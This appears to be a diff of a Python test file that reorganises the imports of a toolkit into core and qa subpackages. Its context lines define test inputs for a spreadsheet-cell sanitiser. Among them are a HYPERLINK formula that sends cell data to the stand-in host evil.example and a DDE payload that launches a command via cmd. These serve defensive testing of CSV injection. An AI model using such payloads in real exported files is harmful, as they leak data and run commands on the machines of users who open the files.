@@ -23,12 +23,12 @@ from toolkit.backends.embedder import FakeEmbedder
 from toolkit.backends.fake import FakeGenerator
 from toolkit.batch import run_batch
 from toolkit.cli import app
-from toolkit.config import Settings, load_settings
-from toolkit.errors import ParallaxError
+from toolkit.core.config import Settings, load_settings
+from toolkit.core.errors import ParallaxError
 from toolkit.export import export_article
-from toolkit.glossary import load_glossary
+from toolkit.qa.glossary import load_glossary
 from toolkit.render.csvcell import FORMULA_STARTS, safe_cell
-from toolkit.review import load_review
+from toolkit.qa.review import load_review
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
             "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\u00a0@x"]
